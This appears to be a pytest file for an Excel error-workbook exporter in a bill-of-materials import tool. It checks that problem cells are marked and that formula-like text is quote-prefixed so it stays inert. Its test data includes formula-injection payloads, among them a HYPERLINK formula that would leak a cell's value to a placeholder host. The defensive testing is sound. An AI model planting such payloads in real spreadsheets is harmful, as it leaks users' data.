"""The error workbook: problems marked on their cells, no formulas, and a clean round trip."""

from __future__ import annotations

import zipfile
from typing import TYPE_CHECKING

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from planner.importing import CellError, read_sheet
from planner.importing.commit import commit
from planner.importing.error_workbook import PROBLEMS_HEADER, needs_quote_prefix
from planner.importing.error_workbook import write_error_workbook as write
from planner.importing.mapping import map_columns
from planner.importing.table import guess_table
from planner.importing.validate import ImportPreview, validate
from planner.schema import BomLine, Part
from planner.workspace import Workspace

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

Row = list[object]
INJECTIONS = [
    '=HYPERLINK("http://x.invalid/?d="&A1,"x")',
    "+1+1",
    "-1+cmd",
    "@SUM(1)",
    "\t=1+1",
]


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Workspace]:
    ws = Workspace.create(tmp_path / "w.magplan")
    yield ws
    ws.close()


def read_back(path: Path) -> list[Row]:
    """Read a written workbook the way an import does: through the reader pipeline."""
    return [list(row) for row in read_sheet(path).rows]


def check(rows: list[Row], workspace: Workspace) -> ImportPreview:
    guess = guess_table(rows)
    return validate(rows, guess, map_columns(rows, guess, "bom"), workspace, product="Motor")


ROWS: list[Row] = [
    ["Bill of materials, motor M7"],
    [],
    ["Part #", "Description", "Qty", "Notes"],
    ["M7-1", "N52 12x5x3mm magnet", "~3M", "rotor"],
    ["M7-2", "N35 disc magnet 6x3", CellError("#N/A"), INJECTIONS[0]],
    ["M7-3", "Ferrite ring magnet 20x10x5", 2, INJECTIONS[1]],
    ["M7-4", "NEMA 17 stepper motor", 1, INJECTIONS[2]],
    ["M7-5", "N42 magnet 10x10x5", 4, INJECTIONS[3]],
]


def test_problems_are_marked_on_their_cells(tmp_path: Path, workspace: Workspace) -> None:
    preview = check(ROWS, workspace)
    path = write(tmp_path / "errors.xlsx", ROWS, preview)
    book = load_workbook(path)
    sheet = book["Import"]
    assert [c.value for c in sheet[1]] == ["Part #", "Description", "Qty", "Notes", "Problems"]
    bad = sheet["C2"]
    assert bad.value == "~3M"
    assert bad.fill.fgColor.rgb.endswith("F8C9C4")
    assert bad.comment is not None
    assert "not a number" in bad.comment.text
    assert sheet["C3"].value == "#N/A"
    assert sheet["C3"].comment is not None
    assert "Excel error #N/A in the file" in sheet["C3"].comment.text
    assert "not a number" in (sheet["E2"].value or "")
    assert sheet["E4"].value is None  # a clean row has no problems
    assert sheet["C4"].value == 2
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E6"
    assert "Read me" in book.sheetnames
    book.close()


def test_no_cell_is_a_formula(tmp_path: Path, workspace: Workspace) -> None:
    preview = check(ROWS, workspace)
    path = write(tmp_path / "errors.xlsx", ROWS, preview)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(archive.read(n).decode() for n in sheets)
        styles = archive.read("xl/styles.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml
    assert 'quotePrefix="1"' in styles
    values = [row[3] for row in read_back(path)[1:]]
    assert values[1:4] == INJECTIONS[:3]  # unchanged: no apostrophe piles up


@pytest.mark.parametrize("text", [*INJECTIONS, "\r=1+1"])
def test_formula_like_text_is_quote_prefixed(text: str) -> None:
    assert needs_quote_prefix(text)


def test_only_problem_rows(tmp_path: Path, workspace: Workspace) -> None:
    path = write(tmp_path / "e.xlsx", ROWS, check(ROWS, workspace), only_problems=True)
    rows = read_back(path)
    assert [r[0] for r in rows] == ["Part #", "M7-1", "M7-2"]


def test_round_trip_fix_in_excel_and_import_again(tmp_path: Path, workspace: Workspace) -> None:
    preview = check(ROWS, workspace)
    assert preview.has_errors
    path = write(tmp_path / "errors.xlsx", ROWS, preview)
    book = load_workbook(path)
    sheet = book["Import"]
    for row in sheet.iter_rows(min_row=2):
        if row[2].comment is not None:  # the marked quantity cells
            row[2].value = 8
            row[2].comment = None
    book.save(path)
    book.close()
    rows = read_back(path)
    again = check(rows, workspace)
    assert not again.has_errors, [r.problems() for r in again.rows]
    assert PROBLEMS_HEADER not in again.mapping.headers.values()
    result = commit(workspace, again)
    assert list(result.imported_rows) == [1, 2, 3, 5]
    assert {p.part_number for p in workspace.all(Part)} == {"M7-1", "M7-2", "M7-3", "M7-5"}
    assert sorted(line.pieces_per_unit for line in workspace.all(BomLine)) == [2, 4, 8, 8]
    notes = sorted(line.note for line in workspace.all(BomLine))
    assert notes == sorted(["rotor", INJECTIONS[0], INJECTIONS[1], INJECTIONS[3]])
